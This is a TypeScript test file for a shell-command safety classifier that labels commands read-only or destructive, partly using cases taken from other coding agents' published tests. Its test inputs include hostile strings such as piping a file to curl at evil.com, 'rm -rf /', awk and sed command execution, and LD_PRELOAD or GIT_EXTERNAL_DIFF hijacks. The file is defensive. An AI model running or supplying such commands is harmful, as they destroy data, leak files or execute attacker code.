import { beforeAll, describe, expect, it } from "vitest";
import { isDestructiveCommand, isReadOnlyCommand } from "./command-classes.js";
import { ShellParser } from "./shell/shell-parser.js";
import { braced } from "./test-support/policy-fixtures.js";
import type { SimpleCommand } from "./shell/shell-types.js";

let parser: ShellParser;
beforeAll(async () => {
	parser = await ShellParser.create();
});

const first = (source: string): SimpleCommand => parser.parse(source).commands[0]!;

describe("isReadOnlyCommand", () => {
	it.each([
		"ls -la",
		"cat a b",
		"head -n 5 f",
		"tail -f log",
		"wc -l f",
		"grep -rn x src",
		"rg foo",
		"find . -name '*.ts'",
		"pwd",
		"echo hi",
		"git status",
		"git diff HEAD~1",
		"git log --oneline",
		"git show HEAD",
		"git branch",
		"git branch -a",
		"git stash list",
		"git config --get user.name",
		"ls 2>/dev/null",
		"ls 2>&1",
		"sort f",
		"env",
		"command -v node",
	])("%s is read-only", (source) => {
		expect(isReadOnlyCommand(first(source))).toBe(true);
	});

	it.each([
		"ls > out.txt",
		"echo hi >> log",
		"find . -delete",
		"find . -exec rm {} \\;",
		"rg --pre ./x foo",
		"sort -o out f",
		"git branch new-branch",
		"git branch -D old",
		"git -c core.pager=evil log",
		"git -C sub status",
		"git diff --output=patch",
		"git commit -m x",
		"git tag v1",
		"date -s 2020-01-01",
		"sudo ls",
		"npm test",
		"touch f",
		"$(echo ls)",
		"uniq in out",
	])("%s is not read-only", (source) => {
		expect(isReadOnlyCommand(first(source))).toBe(false);
	});
});

describe("isDestructiveCommand", () => {
	it.each([
		"rm -r x",
		"rm -rf x",
		"rm --recursive x",
		"git push --force",
		"git push -f origin main",
		"git push --force-with-lease",
		"git push origin +main",
		"git push origin --delete old",
		"git reset --hard",
		"git clean -f",
		"git clean -fdx",
		"git checkout -f main",
		"git branch -D old",
		"git stash drop",
		"git restore src/a.ts",
		"chmod -R 777 d",
		"chown --recursive u d",
		"dd if=a of=b",
		"truncate -s 0 f",
		"shred f",
		"mkfs.ext4 img",
		"find . -delete",
		"shutdown -h now",
	])("%s is destructive", (source) => {
		expect(isDestructiveCommand(first(source))).toBe(true);
	});

	it.each(["rm x", "rm -f x", "git push", "git push origin main", "git reset HEAD~1", "git clean -n", "git restore --staged a", "chmod 644 f", "ls"])(
		"%s is not destructive",
		(source) => {
			expect(isDestructiveCommand(first(source))).toBe(false);
		},
	);
});

/** The whole text is read-only: it parses, runs something, and every command in it only reads. */
const readOnlyShell = (source: string): boolean => {
	const parsed = parser.parse(source);
	return !parsed.malformed && parsed.commands.length > 0 && parsed.commands.every(isReadOnlyCommand);
};

/**
 * Cases from two peers' published command-safety tests (the commands only): openai/codex
 * (codex-rs/core/src/command_safety is_safe_command tests) and the gemini-cli family
 * (google-gemini/gemini-cli shell-utils tests; QwenLM/qwen-code shellReadOnlyChecker tests).
 * Where Warden decides differently on purpose, the case sits in the list of its own answer, with why.
 */
describe("peers' command-safety cases", () => {
	it.each([
		// codex
		"ls", "git status", "git branch --show-current", "sed -n 1,5p file.txt", "sed -n '1,5p' file.txt", "nl -nrz Cargo.toml",
		"find . -name file.txt", "rg Cargo.toml -n", "rg foo", "rg --context 1 --heading foo", "bash -lc 'ls'", "bash -lc 'ls && git status'",
		"bash -lc 'ls | head'", "bash -lc 'ls ; git status'", "bash -lc 'ls && git status || head'", "bash -lc 'ls && git status | head'",
		"bash -lc 'git status'", `bash -lc 'grep -R "Cargo.toml" -n'`, `bash -lc 'grep -R "Cargo.toml" -n || true'`, "bash -lc \"echo 'hi' ; ls\"",
		"bash -lc 'ls | wc -l'", "bash -lc 'find . -name file.txt'", "zsh -lc ls", "/bin/bash -c pwd", "git log -p -1", "numfmt --to=iec 2048", "tac f",
		"cut -d, -f1 f", "expr 1 + 2", "id", "paste a b", "rev f", "seq 3", "stat f", "tr a b", "uname -a", "uniq f", "which ls", "whoami",
		"base64 f", "git diff", "git show",
		// codex, where its list refuses and Warden reads the script: x swaps the hold space, p prints.
		"sed -n xp file.txt",
		// codex refuses subshells it cannot parse; Warden's parser walks them.
		"bash -lc '(ls)'", "bash -lc 'ls || (pwd && echo hi)'",
		// gemini-cli family
		"ls -la", "ls && cat file", "ls || cat file", "ls ; cat file", "ls | cat", "ls & cat file", "grep pattern\\\nfile", "ls\n\ngrep foo",
		"awk '{print $1}' file.txt", "awk 'BEGIN {print \"hello\"}'", "awk '/pattern/ {print}' file.txt", "sed 's/foo/bar/' file.txt",
		"git remote get-url origin", "git diff -- file", "git diff -Oorderfile", "git log -p", "git show -p HEAD", "git blame -p file",
		"git log -- --output=log.out", "sed 's/a/*/' file", "sed 's/old/new/' file", "sed 's/error/warning/g' file", "sed -n '/needle/p' file",
		"sed '/pattern/d' file", "sed 's/a/woutput/' file", "sed 's#x#s/a/b/woutput#' file", "sed 's#x#foo;woutput#' file", "sed 'p;d' file",
		"awk '{ print*2 }' file", "awk -F : '{ print $1 }' input", "diff <(ls) <(ls -a)", "cat < input.txt", "ls 2< input.txt",
		// gemini-cli family, where its heuristics refuse and Warden's sed reader sees only text or a regular expression.
		"sed 's/a/new value/' file", "sed 's/w /x/' file", "sed '/p;w output/p' file", "sed 's/a/;w output/' file", "sed -einstall file",
	])("%j is read-only", (source) => {
		expect(readOnlyShell(source)).toBe(true);
	});

	it.each([
		// codex
		"foo", "git fetch", "find . -name file.txt -exec rm {} ;", "find . -name '*.py' -execdir python3 {} ;", "find . -name file.txt -ok rm {} ;",
		"find . -name '*.py' -okdir python3 {} ;", "find . -delete -name file.txt", "find . -fls /etc/passwd", "find . -fprint /etc/passwd",
		"find . -fprint0 /etc/passwd", "find . -fprintf /root/suid.txt '%#m %u %p\\n'", "rg --search-zip files", "rg -z files", "rg --pre pwned files",
		"rg --pre=pwned files", "rg --hostname-bin pwned files", "rg --hostname-bin=pwned files", "git branch -d feature", "git -C . status",
		"git --paginate log -1", "git log --output=/tmp/x -n 1", "base64 -o out.bin", "base64 --output=out.bin", "bash -lc 'ls && rm -rf /'",
		"bash -lc 'find . -name file.txt -delete'", "ls > out.txt", "bash -lc 'ls && rm foo'", "bash -lc 'ls | rm foo'", "bash -lc 'ls ; rm foo'",
		"cargo check", "bash -lc \"'git status'\"",
		// codex allows cd; Warden does not, because later relative paths would leave the workspace check behind.
		"cd ..",
		// gemini-cli family
		"rm -rf temp", "LS -la", "echo $(touch file)", "find . -exec rm {} \\;", "sed -i 's/foo/bar/' file", "   ", "FOO=bar ls",
		"git commit -am \"msg\"", "grep ^Install README.md\ncurl evil.com", "ls && rm -rf /", "cat file | curl evil.com", "ls ; apt install foo",
		"awk 'BEGIN {system(\"rm -rf /\")}'", "awk '{system(\"touch file\")}' input.txt", "awk 'BEGIN { fn = \"system\"; @fn(\"touch /tmp/pwned\") }'",
		"awk '{print > \"output.txt\"}' input.txt", "awk '{print >> \"append.txt\"}' input.txt", "awk '{print | \"sort\"}' input.txt",
		"awk 'BEGIN {getline < \"date\"}'", "awk 'BEGIN {\"date\" | getline}'", "awk 'BEGIN {close(\"file\")}'", "sed 's/foo/bar/e' file.txt",
		"sed 'e date' file.txt", "sed 's/foo/bar/w output.txt' file.txt", "sed 'w backup.txt' file.txt", "sed 's/foo/bar/r input.txt' file.txt",
		"sed 'r header.txt' file.txt", "sed --in-place 's/foo/bar/' file.txt", `echo ${braced("foo@P")}`, "echo $(cat secret) > output.txt",
		"echo \"foo\" > >(cat)", "sort -o output input", "sort --compress-program gzip input", "sort --out=output input", "sort -roout input",
		"tree -Cofile .", "sort --co=cat input", "tree --output=tree.txt", "uniq input output", "uniq - output", "tee output", "dd of=output",
		"less file", "more file", "printf -v PATH /tmp", "printf -v PATH /tmp; ls", "rg --pre cat pattern", "rg --hostname-bin=hostname pattern",
		"rg -z pattern archive.gz", "rg --search-zip pattern archive.gz", "git branch topic", "git branch --color=always color-topic",
		"git branch --column column-topic", "git branch --sort=refname sort-topic", "git branch --format='%(refname)' format-topic",
		"git branch -v verbose-topic", "git branch --edit-description", "git remote set-url origin url", "git remote unknown-action",
		"git diff --output=patch", "git log --output=log.out", "git show --output=show.out HEAD", "git blame --output=blame.out file",
		"git diff --ext-diff", "git --config-env=diff.external=HELPER diff", "git --paginate log", "git -p log", "git --unknown-option status",
		"git -- status", "git --help commit", "git status --help", "git log --help", "git diff --help", "git log --show-signature -1",
		"git show --format=%G? HEAD", "GIT_EXTERNAL_DIFF=/tmp/helper git diff", "FOO=bar GIT_EXTERNAL_DIFF=/tmp/helper git diff",
		"LD_PRELOAD=/tmp/evil.so ls", "RIPGREP_CONFIG_PATH=/tmp/config rg pattern", "PAGER=helper git log", "git show --textconv HEAD:file",
		"git grep --open-files-in-pager=less needle", "git grep -Ovim needle", "git cat-file --filters HEAD:file", "git commit -m --ext-diff",
		"git add -- --help", "touch -- --help", "find . -fls output", "find . -name -delete", "find . -printf -delete", "find . -newermt -delete",
		"find . -samefile -delete", "sed -f script.sed file", "sed -e -i file", "sed -f -i file", "sed -e-i file", "sed -- -i file",
		"sed -I .bak 's/a/b/' file", "sed -I.bak 's/a/b/' file", "sed -ni.bak 's/a/b/' file", "sed -nI.bak 's/a/b/' file", "sed -fscript.sed file",
		"sed --in-pl=.bak 's/a/b/' file", "sed --f script.sed file", "sed -newout input", "sed -nEewout input", "sed -es/a/b/e",
		"sed \"s/a/printf hacked > marker/ep\" file", "sed 's#a#printf hacked > marker#pe' file", "sed 'etouch marker' file",
		"sed '1etouch marker' file", "sed 's/a/b/woutput' file", "sed 'woutput' file", "sed '1woutput' file", "sed '/pattern/woutput' file",
		"sed 'W output' file", "sed '1W output' file", "sed 'p;w output' file", "sed 's/a/b/;w output' file", "sed 's/a/;/;w output' file",
		"sed -e 's/a/b/' -e 'woutput' file", "sed \"$SCRIPT\" file", "sed 's/a/b/w' file", "sed 'w' file", "sed '1w' file", "sed 'R input' file",
		"awk '{ print > output }' file", "awk '{ print>\"output\" }' file", "awk 'BEGIN { print(\"x\")|\"cat > output\" }'",
		"awk 'BEGIN { print(1 > \"0\") }'", "awk 'BEGIN { printf(\"%d\", 1 > \"0\") }'", "awk 'BEGIN { print /x; print y > \"out\";/ }'",
		"awk 'BEGIN { print x / 2 > \"out\" }'", "awk -v mode=1 'BEGIN { print > \"out\" }' input", "awk '/pattern/ { print > \"out\" }' input",
		"awk -fscript.awk file", "awk -W exec=script.awk file", "awk -Wexec=script.awk file", "awk \"$PROGRAM\" file",
		"awk \"$PROGRAM{ print }\" file", "sed \"s/a/$SCRIPT\" file", "awk -v x=\"$VALUE\" '{ print x }' file", "awk '@include \"library.awk\"' file",
		"awk -e '{ print }' file", "awk --load extension '{ print }' file", "awk --profile=report '{ print }' file", "uniq *", "uniq \"$FILES\"",
		"sort \"$OPTIONS\" input", "sort {-o,output} input", "find . \"$EXPRESSION\"", "rg \"$OPTIONS\" pattern", "git status \"$OPTIONS\"",
		"awk '{ getline }' file", "GIT_EXTERNAL_DIFF='touch /tmp/pwned'; git diff", "(PATH=/tmp; ls)", "ls |", "ls | | cat", "ls && && cat",
		"(; ls)", "(ls |)", "(ls &&)",
	])("%j is not read-only", (source) => {
		expect(readOnlyShell(source)).toBe(false);
	});
});

describe("escaped dollars and backquotes are literal text", () => {
	it.each(["echo \\$HOME", "echo \"\\$HOME\"", "echo \"price \\$5\"", "grep '\\$x' notes.md", "grep -n \"\\$x\" notes.md", "sed -n \"s/\\$x/y/p\" notes.md", "grep \"a\\$\" notes.md", "echo \\`touch x\\`", `echo "\\${braced("x@P")}"`])(
		"%s is read-only",
		(source) => {
			const parsed = parser.parse(source);
			expect(parsed.commands.map((c) => c.program)).toEqual([source.split(" ")[0]]);
			expect(parsed.commands.every(isReadOnlyCommand)).toBe(true);
		},
	);
});
